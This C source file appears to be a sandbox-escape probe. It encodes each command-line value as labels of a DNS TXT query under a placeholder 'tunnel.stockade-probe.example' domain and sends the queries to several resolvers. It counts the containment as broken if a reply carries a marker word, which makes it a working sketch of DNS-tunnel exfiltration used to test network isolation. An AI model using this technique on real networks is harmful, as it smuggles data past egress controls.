/* dns_tunnel LABEL…: carries data out in names. Judged outside, by the queries that arrive there. */
#include "outside.h"

int main(int count, char** values) {
  int answered = 0;
  for (int i = 1; i < count; ++i) {
    char query[512] = {0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0};
    size_t at = 12;
    char name[256];
    snprintf(name, sizeof(name), "%s.tunnel.stockade-probe.example", values[i]);
    for (char* label = strtok(name, "."); label; label = strtok(NULL, ".")) {
      query[at++] = (char)strlen(label);
      memcpy(query + at, label, strlen(label));
      at += strlen(label);
    }
    const char tail[] = {0, 0, 16, 0, 1}; /* TXT */
    memcpy(query + at, tail, sizeof(tail));
    at += sizeof(tail);
    const char* const servers[] = {"127.0.0.53", "192.0.2.53", "2001:db8::53"};
    for (size_t j = 0; j < 3; ++j) {
      struct sockaddr_storage address;
      socklen_t size;
      if (parse_endpoint(servers[j], "53", &address, &size) != 0) continue;
      const int peer = socket(address.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
      char reply[512];
      limit_wait(peer, 200);
      if (connect(peer, (struct sockaddr*)&address, size) == 0 && send(peer, query, at, 0) > 0 && recv(peer, reply, sizeof(reply), 0) > 0) {
        ++answered;
        if (memmem(reply, sizeof(reply), kWord, strlen(kWord))) return broken("answered from outside");
      }
      close(peer);
    }
  }
  return held(answered ? "answered inside" : "no answer");
}
